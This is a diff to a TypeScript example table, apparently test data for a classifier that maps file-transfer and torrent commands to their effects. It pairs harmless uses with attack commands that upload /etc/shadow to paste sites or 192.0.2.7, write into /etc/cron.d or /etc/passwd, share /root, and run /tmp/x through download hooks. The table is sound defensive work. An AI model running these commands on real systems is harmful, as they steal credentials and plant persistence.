@@ -10,13 +10,14 @@ export const fileTransfer2: ExampleTable = {
     use: 'dpaste notes.txt → read notes.txt; send dpaste',
     attack: 'dpaste /etc/shadow → read /etc/shadow; send dpaste',
   },
-  droopy: { use: 'droopy src → listen 8000' },
+  droopy: {
+    use: 'droopy -d uploads 8000 → listen 8000; unpack uploads',
+    attack: 'droopy -d /etc/cron.d 8000 → listen 8000; unpack /etc/cron.d',
+  },
   'ffsend download': {
-    use: 'ffsend download https://example.com/a → fetch https://example.com/a',
-    attack: [
-      'ffsend download file:///etc/shadow → read /etc/shadow',
-      'ffsend download -o /etc/cron.d/job https://example.com/a → fetch https://example.com/a; write /etc/cron.d/job',
-    ],
+    use: 'ffsend download -o notes.txt https://example.com/download/a → fetch https://example.com/download/a; write notes.txt',
+    attack:
+      'ffsend download -o /etc/cron.d/job https://example.com/download/a → fetch https://example.com/download/a; write /etc/cron.d/job',
   },
   'ffsend upload': {
     use: 'ffsend upload notes.txt → read notes.txt; send ffsend upload',
@@ -31,8 +32,8 @@ export const fileTransfer2: ExampleTable = {
     attack: 'gist /etc/shadow → read /etc/shadow; send gist',
   },
   'gokapi-cli': {
-    use: 'gokapi-cli -f notes.txt → read notes.txt; send gokapi-cli',
-    attack: 'gokapi-cli -f /etc/shadow → read /etc/shadow; send gokapi-cli',
+    use: 'gokapi-cli upload -f notes.txt → read notes.txt; send gokapi-cli',
+    attack: 'gokapi-cli upload -f /etc/shadow → read /etc/shadow; send gokapi-cli',
   },
   haste: {
     use: 'haste notes.txt → read notes.txt; send haste',
@@ -59,18 +60,15 @@ export const fileTransfer2: ExampleTable = {
     attack: 'onionshare /root → listen :; send anybody',
   },
   pastebinit: {
-    use: 'pastebinit notes.txt → read notes.txt; send pastebinit',
+    use: 'pastebinit -i notes.txt → read notes.txt; send pastebinit',
     attack: [
       'pastebinit /etc/shadow → read /etc/shadow; send pastebinit',
-      'pastebinit -i /etc/shadow notes.txt → read /etc/shadow; read notes.txt; send pastebinit',
+      'pastebinit -i /etc/shadow → read /etc/shadow; send pastebinit',
     ],
   },
   qrcp: {
-    use: 'qrcp public → listen :; send anybody',
-    attack: [
-      'qrcp /root → listen :; send anybody',
-      'qrcp --config /etc/shadow public → read /etc/shadow; listen :; send anybody',
-    ],
+    use: 'qrcp photos → listen :; send anybody',
+    attack: 'qrcp /root → listen :; send anybody',
   },
   termbin: {
     use: 'termbin notes.txt → read notes.txt; send termbin',
@@ -92,12 +90,12 @@ export const fileTransfer2: ExampleTable = {
     use: 'wgetpaste notes.txt → read notes.txt; send wgetpaste',
     attack: [
       'wgetpaste /etc/shadow → read /etc/shadow; send wgetpaste',
-      `wgetpaste -c 'cat /etc/shadow' notes.txt → read /etc/shadow; read notes.txt; send wgetpaste`,
+      `wgetpaste -c 'cat /etc/shadow' → read /etc/shadow`,
     ],
   },
   'wormhole receive': {
-    use: 'wormhole receive -o a.bin → write a.bin',
-    attack: 'wormhole receive -o /etc/cron.d/job → write /etc/cron.d/job',
+    use: 'wormhole receive -o notes.txt 7-crossover-clockwork → write notes.txt',
+    attack: 'wormhole receive -o /etc/cron.d/job 7-crossover-clockwork → write /etc/cron.d/job',
   },
   'wormhole send': {
     use: 'wormhole send notes.txt → read notes.txt; send wormhole send',
@@ -108,16 +106,14 @@ export const fileTransfer2: ExampleTable = {
     attack: 'wormhole-william send /etc/shadow → read /etc/shadow; send wormhole-william',
   },
   btdownloadcurses: {
-    use: 'btdownloadcurses https://example.com/a → fetch https://example.com/a',
-    attack: [
-      'btdownloadcurses file:///etc/shadow → read /etc/shadow',
-      'btdownloadcurses --saveas /etc/cron.d/job https://example.com/a → fetch https://example.com/a; write /etc/cron.d/job',
-    ],
+    use: 'btdownloadcurses --saveas a.iso https://example.com/a.torrent → fetch https://example.com/a.torrent; write a.iso',
+    attack:
+      'btdownloadcurses --saveas /etc/cron.d/job https://example.com/job.torrent → fetch https://example.com/job.torrent; write /etc/cron.d/job',
   },
   ctorrent: {
-    use: 'ctorrent -s out.txt a.torrent → write out.txt',
+    use: 'ctorrent -s a.iso a.torrent → write a.iso',
     attack: [
-      'ctorrent -s /etc/cron.d/job a.torrent → write /etc/cron.d/job',
+      'ctorrent -s /etc/cron.d/job job.torrent → write /etc/cron.d/job',
       `ctorrent -X 'cat /etc/shadow' a.torrent → read /etc/shadow`,
     ],
   },
@@ -136,71 +132,57 @@ export const fileTransfer2: ExampleTable = {
   'ipfs cat': { use: 'ipfs cat QmHash → fetch QmHash' },
   'ipfs daemon': { use: 'ipfs daemon → listen 4001' },
   'ipfs get': {
-    use: 'ipfs get https://example.com/a → fetch https://example.com/a',
-    attack: [
-      'ipfs get file:///etc/shadow → read /etc/shadow',
-      'ipfs get -o /etc/cron.d/job https://example.com/a → write /etc/cron.d/job; fetch https://example.com/a',
-    ],
+    use: 'ipfs get -o photos QmHash → fetch QmHash; write photos',
+    attack: 'ipfs get -o /etc/cron.d/job QmHash → write /etc/cron.d/job; fetch QmHash',
   },
   'ipfs key': {
-    use: 'ipfs key export -o out.key → write out.key',
-    attack: 'ipfs key export -o /etc/cron.d/job → write /etc/cron.d/job',
+    use: 'ipfs key export -o ann.key ann → write ann.key',
+    attack: 'ipfs key export -o /etc/passwd ann → write /etc/passwd',
   },
   mktorrent: {
-    use: 'mktorrent -o a.torrent src → read-tree src; write a.torrent',
-    attack: [
-      'mktorrent /root → read-tree /root',
-      'mktorrent -o /etc/cron.d/job src → read-tree src; write /etc/cron.d/job',
-    ],
+    use: 'mktorrent -a udp://tracker.example.org -o photos.torrent photos → read-tree photos; write photos.torrent',
+    attack:
+      'mktorrent -a udp://tracker.example.org -o /etc/passwd photos → read-tree photos; write /etc/passwd',
   },
-  'qbittorrent-nox': { use: 'qbittorrent-nox notes.txt → listen 8080' },
+  'qbittorrent-nox': { use: 'qbittorrent-nox a.torrent → listen 8080' },
   'transmission-cli': {
-    use: 'transmission-cli -w out a.torrent → nothing',
+    use: 'transmission-cli -w isos a.torrent → nothing',
     attack: 'transmission-cli -f /tmp/x a.torrent → run /tmp/x',
   },
   'transmission-create': {
-    use: 'transmission-create src → read-tree src',
-    attack: [
-      'transmission-create /root → read-tree /root',
-      'transmission-create -o /etc/cron.d/job src → read-tree src; write /etc/cron.d/job',
-    ],
+    use: 'transmission-create -o photos.torrent photos → read-tree photos; write photos.torrent',
+    attack: 'transmission-create -o /etc/passwd photos → read-tree photos; write /etc/passwd',
   },
   'transmission-daemon': {
     use: 'transmission-daemon → listen 9091',
     attack: 'transmission-daemon -e /etc/cron.d/job → listen 9091; write /etc/cron.d/job',
   },
   'transmission-edit': {
-    use: 'transmission-edit a.torrent → edit a.torrent',
-    attack: 'transmission-edit /etc/sudoers → edit /etc/sudoers',
+    use: 'transmission-edit -a udp://tracker.example.org a.torrent → edit a.torrent',
   },
   'transmission-remote': {
     use: 'transmission-remote -a https://example.com/a.torrent → fetch https://example.com/a.torrent',
-    attack: [
-      'transmission-remote --torrent-done-script /tmp/x → run /tmp/x',
-      'transmission-remote -a file:///etc/shadow → read /etc/shadow',
-    ],
+    attack: 'transmission-remote --torrent-done-script /tmp/x → run /tmp/x',
   },
-  'transmission-show': {
-    use: 'transmission-show a.torrent → read a.torrent',
-    attack: 'transmission-show /etc/shadow → read /etc/shadow',
-  },
+  'transmission-show': { use: 'transmission-show a.torrent → read a.torrent' },
   ftpget: {
-    use: 'ftpget example.com out.txt → send example.com; write out.txt',
-    attack: 'ftpget example.com /etc/cron.d/job → send example.com; write /etc/cron.d/job',
+    use: 'ftpget example.com notes.txt pub/notes.txt → send example.com; write notes.txt',
+    attack: 'ftpget example.com /etc/cron.d/job pub/job → send example.com; write /etc/cron.d/job',
   },
   ftpput: {
-    use: 'ftpput example.com a notes.txt → read notes.txt; send example.com',
-    attack: 'ftpput example.com a /etc/shadow → read /etc/shadow; send example.com',
+    use: 'ftpput example.com pub/notes.txt notes.txt → read notes.txt; send example.com',
+    attack: 'ftpput 192.0.2.7 x /etc/shadow → read /etc/shadow; send 192.0.2.7',
   },
   snarf: {
-    use: 'snarf https://example.com/a out.txt → fetch https://example.com/a; write out.txt',
-    attack: 'snarf file:///etc/shadow out.txt → read /etc/shadow; write out.txt',
+    use: 'snarf https://example.com/notes.txt notes.txt → fetch https://example.com/notes.txt; write notes.txt',
+    attack:
+      'snarf https://example.com/job /etc/cron.d/job → fetch https://example.com/job; write /etc/cron.d/job',
   },
   wcurl: {
-    use: 'wcurl https://example.com/a → fetch https://example.com/a',
+    use: 'wcurl https://example.com/notes.txt → fetch https://example.com/notes.txt',
     attack: [
       'wcurl file:///etc/shadow → read /etc/shadow',
-      'wcurl -o /etc/cron.d/job https://example.com/a → fetch https://example.com/a; write /etc/cron.d/job',
+      'wcurl -o /etc/cron.d/job https://example.com/job → fetch https://example.com/job; write /etc/cron.d/job',
     ],
   },
 }
